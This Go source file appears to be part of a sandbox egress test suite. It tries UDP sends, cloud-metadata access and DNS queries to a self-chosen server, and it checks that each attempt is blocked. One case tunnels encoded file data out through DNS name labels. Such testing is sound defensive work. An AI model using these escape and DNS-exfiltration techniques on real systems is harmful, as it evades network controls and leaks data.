// SPDX-License-Identifier: Apache-2.0

package main

import (
	"net/netip"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

func datagramAttempts() []*Attempt {
	var out []*Attempt
	udp := func(name, control, addr string, send func(fd int, sa unix.Sockaddr) error) {
		out = append(out, &Attempt{
			Name: name, Class: "udp", Expect: verdictErrnos, Params: []string{"port", "addr"}, Layer: "bpf-sendmsg", Event: "network", Trace: strings.TrimPrefix(addr, "::ffff:"), Control: control,
			run: func(p params) error {
				family, sa := sockaddr(p.dest(addr))
				fd, err := unix.Socket(family, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
				if err != nil {
					return err
				}
				defer unix.Close(fd)
				return send(fd, sa)
			},
		})
	}
	sendto := func(fd int, sa unix.Sockaddr) error { return unix.Sendto(fd, []byte(proof), 0, sa) }
	udp("udp-sendto4", "sends a datagram", literal4, sendto)
	udp("udp-sendto6", "sends an IPv6 datagram", literal6, sendto)
	udp("udp-mapped", "sends IPv4 from an IPv6 socket", "::ffff:"+literal4, sendto)
	udp("udp-metadata", "sends to the metadata address", "169.254.169.254", sendto)
	udp("udp-virtual-guess", "sends to a virtual address of no name", "198.18.77.77", sendto)
	udp("udp-public4", "sends to an address that nothing else of the gateway closes", "8.8.8.8", sendto)
	udp("udp-connect", "connects a datagram socket and writes", literal4, func(fd int, sa unix.Sockaddr) error {
		if err := unix.Connect(fd, sa); err != nil {
			return err
		}
		_, err := unix.Write(fd, []byte(proof))
		return err
	})
	udp("udp-connected-sendto-other", "is connected to loopback and sends elsewhere", literal4, func(fd int, sa unix.Sockaddr) error {
		if err := unix.Connect(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}, Port: 9}); err != nil {
			return err
		}
		return unix.Sendto(fd, []byte(proof), 0, sa)
	})
	udp("udp-sendmsg", "sends with sendmsg and a chosen source", literal4, func(fd int, sa unix.Sockaddr) error {
		return unix.Sendmsg(fd, []byte(proof), unix.PktInfo4(&unix.Inet4Pktinfo{}), sa, 0)
	})
	udp("udp-sendmmsg", "sends a batch", literal4, sendmmsg)
	udp("udp-corked", "corks, then flushes", literal4, func(fd int, sa unix.Sockaddr) error {
		if err := unix.Sendto(fd, []byte("esc"), unix.MSG_MORE, sa); err != nil {
			return err
		}
		return unix.Sendto(fd, []byte("aped\n"), 0, sa)
	})
	udp("udp-segmented", "sends several datagrams in one (GSO)", literal4, func(fd int, sa unix.Sockaddr) error {
		if err := unix.SetsockoptInt(fd, unix.IPPROTO_UDP, unix.UDP_SEGMENT, 4); err != nil {
			return err
		}
		return unix.Sendto(fd, []byte(proof), 0, sa)
	})
	udp("udp-broadcast", "sends to the broadcast address", "255.255.255.255", func(fd int, sa unix.Sockaddr) error {
		if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1); err != nil {
			return err
		}
		return unix.Sendto(fd, []byte(proof), 0, sa)
	})
	udp("udp-multicast", "sends to a multicast group", "224.0.0.251", sendto)
	udp("udp-quic", "sends to UDP port 443", literal4, func(fd int, sa unix.Sockaddr) error {
		sa.(*unix.SockaddrInet4).Port = 443
		return unix.Sendto(fd, []byte(proof), 0, sa)
	})
	for _, d := range []struct{ name, addr, question, control string }{
		{"dns-own-server", literal4, "secret.example", "asks a name server of its own choice and gets its answer"},
		{"dns-own-server6", literal6, "secret6.example", "asks one over IPv6"},
		{"dns-mapped-server", "::ffff:" + literal4, "mapped.example", "asks one from an IPv6 socket"},
		{"dns-metadata-server", "169.254.169.254", "metadata.example", "asks the name server of the cloud"},
		{"dns-tunnel", literal4, tunnelled + ".example", "carries data out in the labels of a name"},
	} {
		out = append(out, &Attempt{
			Name: d.name, Class: "dns", Expect: errnos("none", "EACCES", "EPERM"), Params: []string{"addr", "dnsport"}, Layer: "gateway", Event: "dns",
			Trace: d.question, Control: d.control,
			run: func(p params) error {
				a, err := netip.ParseAddr(p.get("addr", d.addr))
				check(err)
				return askDNS(netip.AddrPortFrom(a, uint16(p.int("dnsport", 53))), d.question)
			},
		})
	}
	return out
}

func sendmmsg(fd int, sa unix.Sockaddr) error {
	in4 := sa.(*unix.SockaddrInet4)
	raw := unix.RawSockaddrInet4{Family: unix.AF_INET, Port: swap(in4.Port), Addr: in4.Addr}
	data := []byte(proof)
	iov := unix.Iovec{Base: &data[0]}
	iov.SetLen(len(data))
	type mmsghdr struct {
		hdr unix.Msghdr
		len uint32
		_   [4]byte
	}
	m := mmsghdr{hdr: unix.Msghdr{Name: (*byte)(unsafe.Pointer(&raw)), Namelen: unix.SizeofSockaddrInet4, Iov: &iov}}
	m.hdr.SetIovlen(1)
	return sys(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&m)), 1, 0)
}

// tunnelled is what a tunnel makes of a file.
const tunnelled = "onzwqllfmqzdknjrheqecqkbifgdgtrsmnstczltefdgmylblj2hq.nzxw4zjamfxgiidunbswk43tmvwgk33umjugs3thonxwyzldmvzxizls"

// askDNS asks for a name and succeeds when the answer holds the text that only
// the chosen server knows.
func askDNS(server netip.AddrPort, name string) error {
	family, sa := sockaddr(server)
	fd, err := unix.Socket(family, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	q := []byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00")
	for label := range strings.SplitSeq(name, ".") {
		q = append(append(q, byte(len(label))), label...)
	}
	q = append(q, 0, 0, 16, 0, 1)
	if err := unix.Sendto(fd, q, 0, sa); err != nil {
		return err
	}
	fds := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}
	if n, err := unix.Poll(fds, 2000); err != nil || n == 0 {
		return nothing("no answer")
	}
	buf := make([]byte, 1500)
	n, _, err := unix.Recvfrom(fd, buf, 0)
	if err != nil {
		return err
	}
	if !strings.Contains(string(buf[:n]), "proof-of-escape") {
		return nothing("answered by somebody else")
	}
	return nil
}
